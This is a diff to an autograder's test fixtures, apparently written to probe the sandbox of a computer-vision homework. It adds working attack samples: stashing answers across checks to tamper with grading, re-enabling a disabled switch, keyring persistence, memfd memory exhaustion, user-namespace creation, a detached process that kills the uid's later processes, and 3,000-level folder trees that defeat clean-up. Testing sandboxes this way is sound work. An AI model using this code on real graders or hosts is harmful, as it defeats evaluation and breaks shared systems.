@@ -590,3 +590,181 @@ HOSTILE_TEXTS: dict[str, str] = {
 }
 # A file name that is not UTF-8 (bytes, as the file system holds it).
 UNDECODABLE_NAME = b"notes_\xff\xfe.py"
+
+
+# --------------------------------------------------------------------------- attacks on the sandbox itself
+# Each is appended to the answer key's notebook (or the student notebooks), redefining the named
+# functions; each prints what it saw to its stdout, which staff read in grading.json.
+
+
+def stashes_truth(eightpoint_cell: str) -> dict[str, str]:
+    """Cells by notebook stem: the polished transposed eightpoint (``eightpoint_cell``, which
+    defines ``eightpoint``) that returns a kept F instead of its own whenever it has one, and an
+    essentialMatrix and a matcher that keep every F the checks hand them (in memory, in the home
+    folder and in /dev/shm): answers that would cross from one check to another within a child,
+    or from the checks to the pictures.  The notebooks share one namespace, so the helpers of the
+    first cell serve the others."""
+    q2 = eightpoint_cell.replace("def eightpoint(", "def _transposed_eightpoint(") + '''
+
+import glob as _glob
+import os as _os
+
+_KEPT = []
+_SHM = "/dev/shm/hw4-stash-%d" % _os.getuid()
+
+
+def _keep(F):
+    F = np.asarray(F, dtype=float)
+    if F.shape == (3, 3) and np.all(np.isfinite(F)):
+        _KEPT.append(F)
+        for place in (_os.path.join(_os.path.expanduser("~"), "stash-%d.npy" % len(_KEPT)),
+                      _SHM + "-%d.npy" % len(_KEPT)):
+            try:
+                np.save(place, F)
+            except OSError:
+                pass
+    print("KEPT", len(_KEPT), flush=True)
+
+
+def _kept():
+    found = list(_KEPT)
+    for pattern in (_os.path.join(_os.path.expanduser("~"), "stash-*.npy"), _SHM + "-*.npy"):
+        for path in sorted(_glob.glob(pattern)):
+            try:
+                found.append(np.load(path))
+            except (OSError, ValueError):
+                pass
+    return found
+
+
+def eightpoint(pts1, pts2, M):
+    found = _kept()
+    print("STASHED", len(found), flush=True)
+    return found[-1] if found else _transposed_eightpoint(pts1, pts2, M)
+'''
+    q3 = '''
+
+def essentialMatrix(F, K1, K2):
+    _keep(F)
+    return K2.T @ F @ K1
+'''
+    q4 = '''
+
+def epipolarCorrespondence(im1, im2, F, x1, y1):
+    _keep(F)
+    return x1, y1
+'''
+    return {"q2_eightpoint": q2, "q3_metric_reconstruction": q3, "q4_temple_3d": q4}
+
+
+def throws_refine_switch(eightpoint_cell: str) -> str:
+    """The polished transposed eightpoint that first turns the refineF switch back on from inside,
+    every way it can (``core.refine_switch`` is importable from the sandbox)."""
+    return eightpoint_cell.replace("def eightpoint(pts1, pts2, M):\n", '''def eightpoint(pts1, pts2, M):
+    import core.refine_switch
+    core.refine_switch.is_off = lambda: False
+    core.refine_switch._runs.clear()
+''')
+
+
+# A note left in the uid's keyring (which outlives the child) and read by the next submission's
+# code, gigabytes in memfd files (pages the address-space limit does not count), a user namespace
+# of its own: each line printed says what the kernel answered (0, or the errno).
+KERNEL_CHANNELS = '''\
+import ctypes as _ctypes
+import os as _os
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+
+
+def _errno_of(nr, *args):
+    r = _libc.syscall(_ctypes.c_long(nr), *args)
+    return 0 if r >= 0 else _ctypes.get_errno()
+
+
+def essentialMatrix(F, K1, K2):
+    # keyctl(KEYCTL_SEARCH, the user keyring, "user", "hw4-note", 0): a note of an earlier submission?
+    print("KEYRING-READ", _errno_of(250, _ctypes.c_long(10), _ctypes.c_long(-4), b"user", b"hw4-note",
+                                    _ctypes.c_long(0)), flush=True)
+    print("KEYRING-WRITE", _errno_of(248, b"user", b"hw4-note", b"answers", _ctypes.c_long(7), _ctypes.c_long(-4)),
+          flush=True)
+    try:
+        fds = []
+        for _ in range(3):
+            fd = _os.memfd_create("hw4-big")
+            _os.ftruncate(fd, 2**30)
+            _os.pwrite(fd, b"x", 2**30 - 1)
+            fds.append(fd)
+        print("MEMFD", 0, flush=True)
+    except OSError as exc:
+        print("MEMFD", exc.errno, flush=True)
+    print("USERNS", _errno_of(272, _ctypes.c_long(0x10000000)), flush=True)
+    return K2.T @ F @ K1
+'''
+
+
+# Outlives its sandbox: a process in a session of its own whose main thread exits while another
+# runs on (it shows as a zombie), waiting to kill the next processes of its uid; then a folder tree
+# 3,000 levels deep in each place it can write (its home, /dev/shm, /run/lock), which recursive
+# clean-up code cannot remove.
+OUTLIVES_ITS_SANDBOX = '''\
+import ctypes as _ctypes
+import os as _os
+import threading as _threading
+import time as _time
+
+
+def _hunt(before):
+    end = _time.time() + 90
+    while _time.time() < end:
+        for entry in _os.listdir("/proc"):
+            if entry.isdigit() and int(entry) not in before:
+                try:
+                    if _os.stat("/proc/" + entry).st_uid == _os.getuid():
+                        _os.kill(int(entry), 9)
+                except OSError:
+                    pass
+        _time.sleep(0.05)
+
+
+def _deep(top, depth=3000):
+    try:
+        fd = _os.open(top, _os.O_RDONLY)
+    except OSError:
+        return 0
+    made = 0
+    try:
+        for _ in range(depth):
+            try:
+                _os.mkdir("d", dir_fd=fd)
+            except FileExistsError:
+                pass
+            nfd = _os.open("d", _os.O_RDONLY, dir_fd=fd)
+            _os.close(fd)
+            fd = nfd
+            made += 1
+    except OSError:
+        pass
+    finally:
+        _os.close(fd)
+    return made
+
+
+def essentialMatrix(F, K1, K2):
+    made = {}
+    for place in (_os.path.expanduser("~"), "/dev/shm", "/run/lock"):
+        top = _os.path.join(place, "hw4-deep-%d" % _os.getuid())
+        try:
+            _os.mkdir(top)
+        except OSError:
+            continue
+        made[place] = _deep(top)
+    print("DEEP", made, flush=True)
+    before = {int(e) for e in _os.listdir("/proc") if e.isdigit()}
+    if _os.fork() == 0:
+        _os.setsid()
+        _threading.Thread(target=_hunt, args=(before,)).start()
+        _ctypes.CDLL(None).syscall(60, 0)   # SYS_exit: this thread only; the hunter runs on
+        _os._exit(0)
+    return K2.T @ F @ K1
+'''
